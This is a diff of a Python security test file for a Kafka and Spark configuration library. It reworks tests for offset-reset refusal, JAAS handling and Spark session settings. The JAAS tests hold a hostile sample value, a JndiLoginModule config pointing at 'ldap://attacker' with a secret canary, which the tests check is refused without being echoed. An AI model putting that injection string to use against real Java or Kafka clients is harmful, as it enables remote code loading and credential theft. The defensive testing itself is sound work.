@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import copy
-import json
 import logging
 import pickle
 from collections.abc import Iterator
@@ -12,14 +11,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import example, given
+from hypothesis import given
 from hypothesis import strategies as st
 
 from penstock.config import Config
 from penstock.errors import ConfigError
-from penstock.kafka.clients import consumer_settings, oauth_endpoints, open_consumer, producer_settings, spark_options
+from penstock.kafka.clients import consumer_settings, input_settings, open_consumer, producer_settings
 from penstock.settings import HIDDEN, Secret, revealed
-from penstock.spark.session import session_settings
+from penstock.spark.context import context_settings
 from verification.harness.canaries import canaries_in
 
 SERVERS = {"bootstrap.servers": "localhost:9092"}
@@ -128,18 +127,16 @@ class TestExactlyOnce:
             ("spark.speculation", "true"),
             ("spark.speculation", " TRUE"),
             ("spark.speculation", "1"),
-            ("spark.sql.shuffle.partitions", "200"),
-            ("spark.sql.adaptive.enabled", "true"),
         ],
     )
     def test_spark_settings_that_break_it_are_refused(self, name: str, value: str) -> None:
         assert f"'{name}'" in refusal(spark={name: value})
 
     def test_lost_input_cannot_be_ignored(self) -> None:
-        """There is no setting by which Spark's source would skip records that no longer exist."""
-        assert "failOnDataLoss" in refusal(spark={"failOnDataLoss": "false"})
-        options = spark_options(load(kafka={"main.consumer.failOnDataLoss": "false"}))
-        assert "failOnDataLoss" not in options  # kafka.failOnDataLoss goes to the client, which ignores it
+        """There is no setting by which the client would skip records that no longer exist."""
+        for prefix in ("", "main.consumer.", "producer."):
+            assert f"'{prefix}auto.offset.reset'" in refusal(kafka={f"{prefix}auto.offset.reset": "latest"})
+        assert input_settings(load(), "app")["auto.offset.reset"] == "error"
 
     def test_safe_values_are_accepted(self) -> None:
         load(kafka={"acks": "all", "isolation.level": "read_committed"}, spark={"spark.speculation": "false"})
@@ -255,59 +252,20 @@ class TestMasking:
         assert type(revealed(config.kafka)["sasl.password"]) is str
 
 
-def is_no_reference(password: str) -> bool:
-    """Whether a password stands for itself, and not for a variable or a file."""
-    return not password.startswith(("env:", "file:"))
-
-
 @pytest.mark.security(21)
 class TestJaas:
-    @given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\0")), st.text(min_size=1).filter(is_no_reference))
-    @example("", "file")
-    @example("", "env")
-    def test_any_password_stays_within_its_quotes(self, user: str, password: str) -> None:
-        login = {"sasl.mechanism": "PLAIN", "sasl.username": user.strip(), "sasl.password": password}
-        options = spark_options(load(kafka=login))
-        module, needed, rest = options["kafka.sasl.jaas.config"].split(" ", 2)
-        assert (module, needed) == ("org.apache.kafka.common.security.plain.PlainLoginModule", "required")
-        assert read_jaas(rest) == {"username": user.strip(), "password": password}
+    """There is no Java client that could be made to load a login module, and run its code."""
 
     @pytest.mark.parametrize(
-        "module",
-        [
-            "com.sun.security.auth.module.JndiLoginModule",
-            "com.sun.security.auth.module.LdapLoginModule",
-            "org.apache.kafka.common.security.plain.PlainLoginModule2",
-            "",
-            "required",
-        ],
+        "module", ["com.sun.security.auth.module.JndiLoginModule", "org.apache.kafka.common.security.plain.PlainLoginModule"]
     )
-    @pytest.mark.parametrize("name", ["sasl.mechanism", "main.consumer.sasl.mechanism", "sasl.mechanisms"])
-    def test_only_known_login_modules_are_accepted(self, module: str, name: str) -> None:
+    @pytest.mark.parametrize("prefix", ["", "main.consumer."])
+    def test_a_login_module_is_refused_and_not_repeated(self, prefix: str, module: str) -> None:
         jaas = f'{module} required user.provider.url="ldap://attacker" secret="{CANARY}";'
-        with pytest.raises(ConfigError, match=r"'main\.consumer\.sasl\.jaas\.config' must begin with one of com\.sun") as error:
-            spark_options(load(kafka={name: "PLAIN", "main.consumer.sasl.jaas.config": jaas}))
+        with pytest.raises(ConfigError, match="Java JAAS configuration is not supported") as error:
+            open_consumer(input_settings(load(kafka={f"{prefix}sasl.jaas.config": jaas}), "app"))
         assert CANARY not in str(error.value)
         assert "attacker" not in str(error.value)
-
-
-def read_jaas(text: str) -> dict[str, str]:
-    """Tokens as `java.io.StreamTokenizer` reads them, which Java uses for JAAS: names, and strings with C's escapes."""
-    found = {}
-    escapes = {"n": "\n", "r": "\r"}
-    while text != ";":
-        name, _, text = text.lstrip().partition('="')
-        value, index = "", 0
-        while text[index] != '"':
-            assert text[index] not in "\r\n", "a string ends with its line"
-            if text[index] == "\\":
-                index += 1
-                value += escapes.get(text[index], text[index])
-            else:
-                value += text[index]
-            index += 1
-        found[name], text = value, text[index + 1 :]
-    return found
 
 
 @pytest.mark.security(22)
@@ -337,16 +295,6 @@ class TestOAuth:
         said = refusal(kafka={prefix + self.NAME: f"file:{tmp_path / 'url'}"})
         assert said == f"kafka: '{prefix}{self.NAME}' must be an https:// URL without a password."
 
-    def test_java_may_use_only_the_configured_urls(self) -> None:
-        config = load(kafka={self.NAME: "https://issuer/token", f"main.consumer.{self.NAME}": "https://other/token"})
-        settings = session_settings(2, {"spark.driver.extraJavaOptions": "-Xss4m"}, oauth_endpoints(config))
-        allowed = "-Dorg.apache.kafka.sasl.oauthbearer.allowed.urls=https://issuer/token,https://other/token"
-        assert settings["spark.driver.extraJavaOptions"] == f"-Xss4m {allowed}"
-        assert settings["spark.executor.extraJavaOptions"] == allowed
-
-    def test_java_may_use_no_url_by_default(self) -> None:
-        assert session_settings(2, {})["spark.driver.extraJavaOptions"].endswith("oauthbearer.allowed.urls=")
-
 
 @pytest.mark.security(23)
 class TestTransport:
@@ -374,22 +322,21 @@ class TestTransport:
 @pytest.mark.security(24)
 class TestSpark:
     def test_nothing_of_spark_is_open_by_default(self) -> None:
-        settings = session_settings(2, {})
+        settings = context_settings(2, {})
         assert (settings["spark.ui.enabled"], settings["spark.eventLog.enabled"]) == ("false", "false")
         assert settings["spark.driver.bindAddress"] == settings["spark.driver.host"] == "127.0.0.1"
         assert settings["spark.python.unix.domain.socket.enabled"] == "true"
 
     @pytest.mark.parametrize("master", ["spark://host:7077", "yarn", "k8s://https://host", "local-cluster[2,1,1024]"])
     def test_other_machines_must_authenticate(self, master: str) -> None:
-        settings = session_settings(2, {"master": master})
+        settings = context_settings(2, {"master": master})
         assert (settings["spark.authenticate"], settings["spark.network.crypto.enabled"]) == ("true", "true")
-        assert session_settings(2, {"master": master, "spark.authenticate": "false"})["spark.authenticate"] == "false"
+        assert context_settings(2, {"master": master, "spark.authenticate": "false"})["spark.authenticate"] == "false"
 
     @pytest.mark.parametrize("master", ["local", "local[2]", "local[*]"])
     def test_threads_of_one_process_need_no_authentication(self, master: str) -> None:
-        assert "spark.authenticate" not in session_settings(2, {"master": master})
+        assert "spark.authenticate" not in context_settings(2, {"master": master})
 
-    def test_a_users_jars_are_added_to_the_pinned_ones(self) -> None:
-        pinned, both = session_settings(2, {})["spark.jars"], session_settings(2, {"spark.jars": "/x.jar"})["spark.jars"]
-        assert both == f"{pinned},/x.jar"
-        assert json.dumps(pinned).count(".jar") == 4
+    def test_there_are_no_jars_but_a_users_own(self) -> None:
+        assert "spark.jars" not in context_settings(2, {})
+        assert context_settings(2, {"spark.jars": "/x.jar"})["spark.jars"] == "/x.jar"
